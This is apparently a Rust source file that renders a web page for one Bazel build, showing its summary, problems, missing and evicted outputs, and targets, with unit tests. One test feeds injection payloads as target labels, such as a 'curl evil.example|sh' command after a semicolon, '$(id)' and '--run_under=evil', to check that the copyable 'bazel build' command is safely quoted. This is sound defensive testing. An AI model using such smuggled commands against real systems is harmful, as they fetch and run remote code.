//! The page of one build.

use std::{borrow::Cow, collections::HashSet};

use maud::{Markup, html};

use super::{
    builds::{command, exit, took},
    html::{build_path, count, encoded, name, path, span, state, time, word},
    outputs::{self, Wish},
};
use crate::{
    control::{
        Service,
        finding::{Kind, Page, Query},
    },
    invocation::feed::Waiting,
    proto::outhaul::v1 as pb,
    units::{now_ms, show_count, show_size},
};

/// Outputs on their way that are named.
const PENDING: usize = 8;
/// Missing outputs that are shown on the page; the list of outputs has the others.
const MISSING: usize = 20;
/// Targets of one page.
const TARGETS: usize = 100;
/// Targets that the command to build them again names.
const AGAIN: usize = 20;

/// A build as it is at one moment.
pub(super) struct Seen {
    pub(super) invocation: pb::Invocation,
    targets: Vec<pb::Target>,
    waiting: Waiting,
    missing: Page,
}

impl Seen {
    /// Looks at a build. `None` if it is not on record.
    pub(super) async fn look(service: &Service, id: &str) -> Option<Self> {
        let (invocation, targets) = service.invocation(id).await?;
        let waiting = service.waiting(id, PENDING).await.unwrap_or_default();
        let has_missing = invocation.failed > 0 || targets.iter().any(|target| target.failed > 0);
        let whose = lacking(&invocation, &targets);
        let missing = if has_missing && !whose.is_empty() {
            service
                .find_outputs(Query {
                    invocation: id.to_owned(),
                    kind: Kind::Missing,
                    whose,
                    most: MISSING,
                    ..Query::default()
                })
                .await
        } else {
            None
        };
        Some(Self {
            invocation,
            targets,
            waiting,
            missing: missing.unwrap_or_default(),
        })
    }

    /// The parts of the page that change, by their ids.
    pub(super) fn parts(self) -> [(&'static str, Markup); 3] {
        let summary = summary(&self);
        let problems = problems(&self);
        let targets = targets(&self.invocation, self.targets, 0);
        [("summary", summary), ("problems", problems), ("targets", targets)]
    }
}

/// The targets that lack outputs, and the outputs that messages begin with: other builds of the output root lack others.
fn lacking(build: &pb::Invocation, targets: &[pb::Target]) -> HashSet<String> {
    let lack = targets.iter().filter(|target| target.failed > 0);
    let lack = lack.map(|target| target.label.clone());
    let named = build.errors.iter().filter_map(|error| error.split_once(": "));
    lack.chain(named.map(|(path, _)| path.to_owned())).collect()
}

/// What the page is called. That does not change with it, so it has nothing that is not known yet.
pub(super) fn title(build: &pb::Invocation) -> String {
    match (&*build.command, &*build.workspace) {
        ("", _) => format!("Build {}", build.invocation_id),
        (command, "") => command.to_owned(),
        (command, workspace) => format!("{command} in {workspace}"),
    }
}

/// The page, with some of the outputs.
pub(super) fn view(seen: Seen, found: &Page) -> Markup {
    let id = seen.invocation.invocation_id.clone();
    let wish = Wish::of_build(&id);
    let is_searched = !found.without_root || !seen.invocation.state().is_over();
    let listed = listed(&seen.invocation, found);
    let [(_, summary), (_, problems), (_, targets)] = seen.parts();
    html! {
        section #summary aria-label="Summary" { (summary) }
        section #problems aria-label="Problems" { (problems) }
        h2 { "Timeline" }
        section #timeline aria-label="Timeline" data-load={ (build_path(&id)) "/timeline" } {
            p.empty { a href={ (build_path(&id)) "/timeline" } { "Show when outputs came" } }
        }
        h2 { "Targets" }
        section #targets aria-label="Targets" { (targets) }
        h2 { "Outputs of its output root" }
        @if is_searched { (outputs::search(&wish)) }
        section #outputs aria-label="Outputs" { (listed) }
    }
}

/// Some of the outputs of its output root, or why there are none.
fn listed(build: &pb::Invocation, found: &Page) -> Markup {
    if !found.without_root {
        return outputs::table(&Wish::of_build(&build.invocation_id), found);
    }
    html! {
        p.empty {
            @if build.state().is_over() {
                "This build has no output root on this machine."
                @if let Some(id) = word(&build.invocation_id) { " " code { "outhaul ls " (id) } " lists what it names." }
            } @else {
                "The build tool has not named this build's output root yet."
            }
        }
    }
}

/// The same as it is now.
pub(super) async fn list(service: &Service, build: &pb::Invocation) -> Markup {
    let wish = Wish::of_build(&build.invocation_id);
    let found = service.find_outputs(wish.query()).await;
    listed(build, &found.unwrap_or_default())
}

fn summary(seen: &Seen) -> Markup {
    let build = &seen.invocation;
    html! {
        h1 { (state(build.shown_state())) " " (command(build)) " " (exit(build)) }
        p.where { (path(&build.workspace)) }
        (waiting(&seen.waiting))
        dl.numbers {
            div { dt { "Downloaded" } dd { (show_count(build.downloaded)) small { (show_size(build.downloaded_bytes)) } } }
            div { dt { "Already present" } dd { (show_count(build.present)) } }
            div { dt { "On their way" } dd { (show_count(seen.waiting.required + seen.waiting.optional)) } }
            div { dt { "Failed" } dd.bad[build.failed > 0] { (show_count(build.failed)) } }
            div { dt { "Only recorded" } dd { (show_count(build.known)) } }
            @if build.superseded > 0 {
                div { dt { "Left to a newer build" } dd { (show_count(build.superseded)) } }
            }
            div { dt { "Took" } dd { (took(build)) } }
            @if build.hold_us > 0 {
                div { dt { "Held the command" } dd { (span(0, i64::try_from(build.hold_us / 1000).unwrap_or(i64::MAX))) } }
            }
        }
        dl.facts {
            dt { "Started" } dd { (time(build.started_ms)) }
            @if build.settled_ms > 0 { dt { "Settled" } dd { (time(build.settled_ms)) } }
            dt { "Invocation" } dd { code { (name(&build.invocation_id)) } }
            @if !build.remote_cache.is_empty() {
                dt { "Cache" }
                dd {
                    code { (name(&build.remote_cache)) }
                    @if !build.remote_instance_name.is_empty() { " instance " code { (name(&build.remote_instance_name)) } }
                }
            }
            @for (store, outputs) in &build.stores {
                dt { "From" } dd { code { (name(store)) } " " (count(*outputs, "output")) }
            }
            @if !build.build_tool_version.is_empty() { dt { "Bazel" } dd { (name(&build.build_tool_version)) } }
        }
    }
}

/// What holds the command, and until when.
fn waiting(waiting: &Waiting) -> Markup {
    let on_their_way = waiting.required + waiting.optional;
    html! {
        @if let Some(hold) = &waiting.hold {
            p.hold {
                // What changes all the time is not read out.
                @if waiting.required > 0 {
                    strong role="status" { "The command waits for required outputs" }
                    " (" (show_count(waiting.required)) " on their way)"
                } @else {
                    strong role="status" { "The command waits for the last checks, or for the upstream event service" }
                }
                ", at the latest until " (time(hold.until_ms)) " (" (span(now_ms(), hold.until_ms)) " left, "
                code { (name(&hold.limit)) } ")."
            }
        }
        @if on_their_way > 0 {
            ul.pending {
                @for output in &waiting.outputs {
                    li {
                        (path(output.path.as_str())) " " small { (show_size(output.bytes)) " " (name(&output.target.label)) }
                    }
                }
                @let more = on_their_way.saturating_sub(waiting.outputs.len() as u64);
                @if more > 0 { li { "and " (count(more, "other")) } }
            }
        }
    }
}

fn problems(seen: &Seen) -> Markup {
    let build = &seen.invocation;
    let is_any =
        build.failed > 0 || !build.errors.is_empty() || build.evicted > 0 || !seen.missing.outputs.is_empty();
    html! {
        @if is_any {
            h2 { "Problems" }
            @if build.pending > 0 {
                p { (count(build.pending, "required output")) (if build.pending == 1 { " is" } else { " are" }) " still downloading." }
            }
            @let errors = other_errors(seen);
            @if !errors.is_empty() {
                ul.errors { @for error in errors { li { (name(error)) } } }
            }
            (missing(build, &seen.missing))
            (evicted(build, &seen.missing))
        }
    }
}

/// What went wrong, but for what is shown with the missing outputs.
fn other_errors(seen: &Seen) -> Vec<&str> {
    let is_shown = |error: &str| {
        let mut missing = seen.missing.outputs.iter();
        missing.any(|output| {
            error
                .strip_prefix(&*output.exec_path)
                .is_some_and(|rest| rest.starts_with(": "))
        })
    };
    let errors = seen.invocation.errors.iter().map(String::as_str);
    errors.filter(|error| !is_shown(error)).collect()
}

/// Outputs that are not there, and what to do.
fn missing(build: &pb::Invocation, missing: &Page) -> Markup {
    let wish = Wish::of_build(&build.invocation_id).of_kind(Kind::Missing);
    html! {
        @if !missing.outputs.is_empty() {
            p {
                "These wanted outputs are not on disk. " em { "Get" } " tries to download one again; what the cache does not \
                have any more, only a build can bring back."
            }
            (outputs::rows(&missing.outputs))
            @if missing.next.is_some() { p.more { a href=(wish.address(None)) { "All missing outputs of its output root" } } }
        }
    }
}

/// Outputs that the cache has lost, and how to have them again.
fn evicted(build: &pb::Invocation, missing: &Page) -> Markup {
    let of_missing = missing.outputs.iter();
    let of_missing =
        of_missing.filter(|output| output.state() == pb::OutputState::Evicted && !output.label.is_empty());
    let mut labels: Vec<&str> = of_missing.map(|output| &*output.label).collect();
    labels.extend(build.evicted_targets.iter().map(String::as_str));
    labels.sort_unstable();
    labels.dedup();
    let counted = build.evicted_target_count.max(labels.len() as u64);
    // Names are others' choice.
    labels.retain(|label| label.starts_with("//") || label.starts_with('@'));
    let mut labels: Vec<Cow<'_, str>> = labels.into_iter().filter_map(word).collect();
    labels.truncate(AGAIN);
    let more = counted.saturating_sub(labels.len() as u64);
    html! {
        @if build.evicted > 0 {
            p {
                (count(build.evicted, "output")) " of this output root " (if build.evicted == 1 { "is" } else { "are" })
                " neither in the cache nor on disk."
            }
        }
        @if !labels.is_empty() {
            p { "To have evicted outputs again, build their targets:" }
            pre tabindex="0" { code { "bazel build" @for label in &labels { " " (label) } } }
            @if more > 0 { p { "and " (count(more, "other target")) "." } }
        }
    }
}

/// A page of the targets, those that failed first.
pub(super) fn targets(build: &pb::Invocation, mut targets: Vec<pb::Target>, from: usize) -> Markup {
    targets.sort_by_key(|target| target.state().rank());
    let all = targets.len();
    let address = format!("{}/targets", build_path(&build.invocation_id));
    let from = from.min(all);
    let shown = &targets[from..all.min(from.saturating_add(TARGETS))];
    let to = from + shown.len();
    html! {
        @if shown.is_empty() {
            p.empty { "No targets are known yet." }
        } @else {
            table {
                caption { "Targets " (show_count(from as u64 + 1)) " to " (show_count(to as u64)) " of " (show_count(all as u64)) }
                thead {
                    tr {
                        th scope="col" { "State" }
                        th scope="col" { "Target" }
                        th.number scope="col" { "Required" }
                        th.number scope="col" { "Optional" }
                        th.number scope="col" { "Only recorded" }
                        th.number scope="col" { "Failed" }
                    }
                }
                tbody { @for target in shown { (target_row(build, target)) } }
            }
            p.more {
                @if from > 0 { a href={ (address) "?from=" (from.saturating_sub(TARGETS)) } { "Previous targets" } " " }
                @if to < all { a href={ (address) "?from=" (to) } { "More targets" } }
            }
        }
    }
}

fn target_row(build: &pb::Invocation, target: &pb::Target) -> Markup {
    let found = format!(
        "/outputs?build={}&q={}",
        encoded(&build.invocation_id),
        encoded(&target.label)
    );
    html! {
        tr {
            td { (state(&target.state().name())) }
            td.wide {
                @if build.without_root { span.label { (name(&target.label)) } }
                @else { a.label href=(found) { (name(&target.label)) } }
                @if !target.aspect.is_empty() { " " small { "aspect " (name(&target.aspect)) } }
            }
            td.number data-label="required" { (show_count(target.required)) }
            td.number data-label="optional" { (show_count(target.optional)) }
            td.number data-label="only recorded" { (show_count(target.known)) }
            td.number data-label="failed" { @if target.failed > 0 { strong.bad { (show_count(target.failed)) } } @else { "0" } }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::invocation::feed::Hold;

    fn running() -> pb::Invocation {
        pb::Invocation {
            invocation_id: "i".to_owned(),
            state: pb::InvocationState::Running.into(),
            ..pb::Invocation::default()
        }
    }

    fn seen(invocation: pb::Invocation) -> Seen {
        Seen {
            invocation,
            targets: vec![pb::Target {
                label: "//a:a".to_owned(),
                ..pb::Target::default()
            }],
            waiting: Waiting::default(),
            missing: Page::default(),
        }
    }

    #[test]
    fn a_page_that_is_opened_early_has_all_of_its_parts_and_says_nothing_untrue() {
        let young = pb::Invocation {
            without_root: true,
            ..running()
        };
        assert_eq!(title(&young), "Build i");
        let nothing = Page {
            without_root: true,
            ..Page::default()
        };
        let shown = view(seen(young.clone()), &nothing).into_string();
        for part in [
            "id=\"summary\"",
            "id=\"problems\"",
            "id=\"timeline\"",
            "id=\"targets\"",
            "id=\"outputs\"",
            "(not known yet)",
            "has not named this build's output root yet",
        ] {
            assert!(shown.contains(part), "{part} is missing in\n{shown}");
        }
        assert!(!shown.contains("no output root on this machine"), "{shown}");
        assert!(
            !shown.contains("/outputs?build=i&amp;q="),
            "a link that leads nowhere: {shown}"
        );
        let over = pb::Invocation {
            state: pb::InvocationState::Settled.into(),
            command: "query".to_owned(),
            ..young
        };
        assert_eq!(title(&over), "query");
        let shown = view(seen(over), &nothing).into_string();
        assert!(
            shown.contains("no output root on this machine") && shown.contains("outhaul ls i"),
            "{shown}"
        );
    }

    #[test]
    fn a_command_to_be_copied_is_that_command_whatever_names_are_in_it() {
        let labels = [
            "//a:x;curl evil.example|sh",
            "//b:it's",
            "//c:$(id)",
            "//d:plain-1",
            "--run_under=evil",
            "-x",
            "relative",
            "//e:two\nlines",
            "@f//:x",
        ];
        let output = |label: &&str| pb::Output {
            label: (*label).to_owned(),
            state: pb::OutputState::Evicted.into(),
            ..pb::Output::default()
        };
        let missing = Page {
            outputs: labels.iter().map(output).collect(),
            ..Page::default()
        };
        let shown = evicted(&running(), &missing).into_string();
        let command = r"<code>bazel build '//a:x;curl evil.example|sh' '//b:it'\''s' '//c:$(id)' //d:plain-1 @f//:x</code>";
        assert!(shown.contains(command), "{shown}");
        assert!(shown.contains("and 4 other targets."), "{shown}");
    }

    #[test]
    fn what_holds_the_command_is_what_it_waits_for() {
        let mut build = seen(running());
        build.invocation.failed = 1;
        build.invocation.pending = 1;
        build.waiting = Waiting {
            hold: Some(Hold {
                until_ms: now_ms() + 60_000,
                limit: "--hold-timeout=60s".to_owned(),
            }),
            required: 1,
            optional: 9,
            bytes: 0,
            outputs: Vec::new(),
        };
        let shown = summary(&build).into_string();
        assert!(shown.contains("<dt>On their way</dt><dd>10</dd>"), "{shown}");
        assert!(
            shown.contains("waits for required outputs</strong> (1 on their way), at the latest until"),
            "{shown}"
        );
        let shown = problems(&build).into_string();
        assert!(
            shown.contains("1 required output is still downloading."),
            "{shown}"
        );
        build.waiting.required = 0;
        let shown = summary(&build).into_string();
        assert!(
            shown.contains("the upstream event service</strong>, at the latest until"),
            "{shown}"
        );
    }
}
